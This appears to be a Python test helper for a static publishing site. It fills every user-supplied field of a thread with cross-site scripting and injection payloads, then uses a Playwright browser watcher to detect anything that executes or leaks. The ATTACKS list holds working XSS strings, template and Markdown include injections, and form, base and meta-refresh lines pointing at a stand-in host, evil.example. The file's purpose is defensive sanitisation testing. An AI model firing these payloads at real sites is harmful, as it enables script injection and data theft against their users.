"""A publication whose every word is an attack, and a watch that counts what in a page acts."""

from __future__ import annotations

import csv
import json
import re
from pathlib import Path
from typing import TYPE_CHECKING, Any

import tomli_w

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Page

SLUG = "hostile"
# Ours, one for each way in; a stranger's clone has no other list.
ATTACKS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "</script><script>alert(1)</script>",
    "</title></head><body onload=alert(1)>",
    "[click](javascript:alert(1)) <javascript:alert(1)>",
    "![x](x){: onerror=alert(1) }",
    "# heading {: #content onclick=alert(1) }",
    '--8<-- "mkdocs.yml"',
    "{{ config.site_name }} {% for x in range(9) %}x{% endfor %}",
    "</div></section></article><h1>loose</h1>",
    "<a href='data:text/html,<script>alert(1)</script>' id=content name=body>x</a>",
    "<style>*{display:none}</style><form action=https://evil.example><input name=q></form>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe><object data=//evil.example>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "```python exec=1\nimport os\n```",
    "---\ntitle: x\ntemplate: main.html\n---",
    "<!-- --><base href=https://evil.example/><meta http-equiv=refresh content=0;url=//evil.example>",
    "javascript:alert(1)//' onmouseover='alert(1)",
    "&lt;img src=x onerror=alert(1)&gt; &#60;script>alert(1)&#60;/script>",
)
FORBIDDEN = "script, iframe, object, embed, base, meta, link, style, img, math, video, audio, [style]:not(figure *)"
OUR_IDS = re.compile(
    r"(post|finding|chart|question|table|hostile)-|__code_|what-it-shows|search-words|capture|downloads|dictionary|method|cite"
)
# Before any script of the page: what would have run, and what the policy forbade.
WATCH = """window.fired = [];
for (const name of ['alert', 'confirm', 'prompt', 'print']) window[name] = () => { fired.push(name); };
addEventListener('securitypolicyviolation', e => fired.push(e.violatedDirective + ' ' + e.blockedURI));"""
TOUCH = """() => {
  document.addEventListener('click', e => { if (e.target.closest('a')) e.preventDefault(); }, true);
  for (const part of document.querySelectorAll('article.paper *')) {
    for (const kind of ['pointerover', 'mouseover', 'mouseenter', 'focus', 'click']) {
      part.dispatchEvent(new MouseEvent(kind, { bubbles: true, cancelable: true }));
    }
    part.focus?.();
  }
}"""
STRANGE = """forbidden => [...document.querySelectorAll('article.paper *')].flatMap(part => [
  ...(part.matches(forbidden) ? ['<' + part.localName + '>'] : []),
  ...[...part.attributes].filter(a => /^on/i.test(a.name) ||
    (/^(href|src|action|xlink:href)$/i.test(a.name) && /^\\s*(javascript|data|vbscript):/i.test(a.value)))
    .map(a => a.name + '=' + a.value)])"""


def make_publication(folder: Path, original: Path, attacks: list[str]) -> Path:
    """A publication with one thread, a copy of `original`, in which every text a stranger may fill is an attack."""
    thread = folder / "data" / "threads" / SLUG
    thread.mkdir(parents=True)
    posts = [json.loads(line) for line in (original / "posts.jsonl").read_text("utf-8").splitlines()]
    for number, post in enumerate(posts):
        words = attacks[number % len(attacks)]
        # Beside the old words, so that there is still something to measure.
        post["html"] = f"{words}{post['html']}" if post["state"] == "present" else ""
    plain = dict.fromkeys(("like_count", "share_count", "declared_reply_count"), 0)
    for number, words in enumerate(attacks):
        posts.append(
            plain | {"post_id": f"v{number:04}", "parent_id": posts[0]["post_id"], "author_id": posts[0]["author_id"],
            "published_at": posts[-1]["published_at"], "text": words, "html": "", "lang": "en", "kind": "post",
            "state": "present", "url": words}
        )  # fmt: skip
    lines = (json.dumps(post, sort_keys=True) for post in posts)
    (thread / "posts.jsonl").write_text("\n".join(lines) + "\n", "utf-8")
    with (original / "authors.csv").open(encoding="utf-8", newline="") as stream:
        authors = list(csv.DictReader(stream))
    for number, author in enumerate(authors):
        author["name"] = " ".join(attacks[number % len(attacks)].split()) if number % 2 else ""
    with (thread / "authors.csv").open("w", encoding="utf-8", newline="") as stream:
        writer = csv.DictWriter(stream, list(authors[0]), lineterminator="\n")
        writer.writeheader()
        writer.writerows(authors)
    capture = json.loads((original / "capture.json").read_text("utf-8"))
    capture |= {"records_read": len(posts) + len(attacks), "posts_kept": len(posts), "route": attacks[0]}
    capture["rejections"] = [{"place": words, "reason": words} for words in attacks]
    (thread / "capture.json").write_text(json.dumps(capture), "utf-8")
    joined = " ".join(" ".join(attacks).split())
    settings: dict[str, Any] = {
        "title": joined, "platform": "constructed", "kicker": joined, "standfirst": joined,
        "tags": [words for words in attacks if words.strip()],
        "captured_at": "2018-01-25T01:00:00Z", "link_posts": True,
        "roles": [
            {"id": "manager", "label": attacks[0], "singular": attacks[1], "words": ["housing", "manager"]},
            {"id": "tenant", "label": attacks[2], "singular": attacks[3], "words": ["tenant"]},
        ],
    }  # fmt: skip
    (thread / "thread.toml").write_text(tomli_w.dumps(settings), "utf-8")
    (thread / "commentary.md").write_text("\n\n".join(attacks), "utf-8")
    return folder


class Watch:
    """One browser page that keeps everything it should not have done."""

    def __init__(self, browser: Browser, address: str) -> None:
        self.address = address
        self.context = browser.new_context(viewport={"width": 1200, "height": 900})
        self.page: Page = self.context.new_page()
        self.seen: list[str] = []
        self.page.on("dialog", lambda dialog: (self.seen.append(f"dialog {dialog.message}"), dialog.dismiss()))
        self.page.on("pageerror", lambda error: self.seen.append(f"error {error}"))
        self.page.on("request", self.request)
        self.page.add_init_script(WATCH)

    def request(self, request: Any) -> None:
        """Keep a request that leaves the site."""
        if not request.url.startswith((self.address, "data:", "blob:")):
            self.seen.append(f"request {request.url[:100]}")

    def visit(self, path: str) -> list[str]:
        """Open a page, scroll it, touch everything in it; what acted, and what stands in it that nobody put there."""
        self.page.goto(self.address + path, wait_until="load")
        # A chart in a fold is drawn when it is opened.
        for fold in self.page.locator("details.more").all():
            fold.evaluate("fold => { fold.open = true; }")
        for figure in self.page.locator("figure[data-chart]").all():
            figure.scroll_into_view_if_needed()
            figure.locator(".chart-live svg").wait_for(timeout=15_000)
        self.page.evaluate(f"({TOUCH})()")
        self.page.wait_for_timeout(100)
        strange = self.page.evaluate(STRANGE, FORBIDDEN)
        ids = self.page.evaluate(
            "() => [...document.querySelectorAll('article.paper [id], article.paper [name]')]"
            ".filter(part => !part.closest('svg')).map(part => part.id || part.getAttribute('name'))"
        )
        strange += [f"id={name}" for name in ids if not OUR_IDS.match(name)]
        found = self.seen + self.page.evaluate("window.fired") + strange
        self.seen = []
        return found
